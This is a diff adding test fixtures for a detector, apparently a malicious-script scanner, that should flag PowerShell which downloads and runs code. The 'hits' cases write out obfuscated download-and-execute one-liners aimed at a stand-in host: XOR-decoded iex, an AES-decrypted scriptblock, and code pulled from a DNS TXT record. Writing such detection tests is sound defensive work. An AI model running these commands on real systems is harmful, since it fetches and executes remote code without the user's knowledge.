@@ -16,6 +16,33 @@ export const DOWNLOADS: TextCases = {
       'a visible one': ['batch', 'powershell -c "iex (irm https://files.example/a)"'],
     },
   },
+  script_runs_decoded_answer: {
+    hits: {
+      'behind a key, through variables': [
+        'powershell',
+        "$w=New-Object Net.WebClient;$k='example key';$i=0;[char[]]$b=([char[]]($w.DownloadString('http://files.example/a')))|%{$_-bxor$k[$i++%$k.Length]};iex ($b -join '')",
+      ],
+      'deciphered by a function of its own': [
+        'powershell',
+        'function Open-Text($data) {\n  $t = $aes.CreateDecryptor().TransformFinalBlock($data, 0, $data.Length)\n  return [Text.Encoding]::UTF8.GetString($t)\n}\n$raw = (New-Object Net.WebClient).DownloadData("https://files.example/a")\n$code = Open-Text $raw\n& ([scriptblock]::Create($code))',
+      ],
+      'an answer of the name service': [
+        'powershell',
+        "if(''+(nslookup -q=txt a.files.example) -match '@(.*)@'){iex $matches[1]}",
+      ],
+    },
+    misses: {
+      'a name that is looked up and shown': ['powershell', 'Resolve-DnsName files.example | Format-Table\niex $own'],
+      'data that is deciphered and kept': [
+        'powershell',
+        "$raw = (New-Object Net.WebClient).DownloadData('https://files.example/a')\n$t = $aes.CreateDecryptor().TransformFinalBlock($raw, 0, $raw.Length)\n[IO.File]::WriteAllBytes('a.json', $t)\nStart-Process notepad.exe",
+      ],
+      'a script of a known project in its interface': [
+        'powershell',
+        '$a = Invoke-RestMethod "https://www.python.org/tools/install.json"\n$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($a.content))\nInvoke-Expression $t',
+      ],
+    },
+  },
   script_drops_fetched_program: {
     hits: {
       'fetched and decoded by a tool of certificates': [
